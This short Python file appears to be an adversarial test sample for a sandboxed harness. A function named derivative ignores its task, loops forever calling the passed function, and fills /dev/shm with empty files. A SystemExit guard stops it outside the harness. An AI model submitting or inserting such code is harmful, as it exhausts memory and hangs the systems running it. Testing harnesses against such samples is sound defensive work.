"""Calls the test back for ever, and makes empty files meanwhile.

Due: 13
Base: right
"""
raise SystemExit("only corpus.py runs this, behind its walls")
# %% derivative
def derivative(f, x):
    number = 0
    while True:
        f(1.0)
        for number in range(number, number + 500):
            open(f"/dev/shm/{number}", "w").close()
